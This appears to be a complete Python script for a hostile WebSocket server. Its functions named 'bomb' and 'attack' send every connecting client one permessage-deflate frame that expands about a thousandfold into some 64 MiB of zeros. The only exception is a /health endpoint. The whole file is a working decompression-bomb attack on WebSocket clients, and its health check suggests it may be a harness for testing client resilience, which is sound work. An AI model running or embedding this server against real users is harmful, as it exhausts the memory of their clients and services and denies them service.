"""Sends messages that unfold to a thousand times as many bytes."""
import base64
import hashlib
import socket
import threading
import zlib

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def read(connection):
    data = b""
    while b"\r\n\r\n" not in data:
        got = connection.recv(4096)
        if not got:
            raise OSError("it has gone")
        data += got
    return data


def accept(request, more=b""):
    (key,) = [line[19:] for line in request.split(b"\r\n") if line.lower().startswith(b"sec-websocket-key: ")]
    token = base64.b64encode(hashlib.sha1(key + GUID).digest())
    return (
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Accept: " + token + b"\r\n" + more + b"\r\n"
    )


def serve(connection):
    try:
        request = read(connection)
        if request.startswith(b"GET /health"):
            connection.sendall(OK)
        else:
            attack(connection, request)
    except OSError:
        return
    finally:
        connection.close()


def bomb():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64))
    packed += packer.flush(zlib.Z_SYNC_FLUSH)[:-4]
    return b"\xc2\x7e" + len(packed).to_bytes(2, "big") + packed


BOMB = bomb()


def attack(connection, request):
    asked = b"permessage-deflate" in request
    more = b"Sec-WebSocket-Extensions: permessage-deflate\r\n" if asked else b""
    connection.sendall(accept(request, more) + BOMB)
    while connection.recv(65536):
        pass


listener = socket.create_server(("0.0.0.0", 5000), backlog=100)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
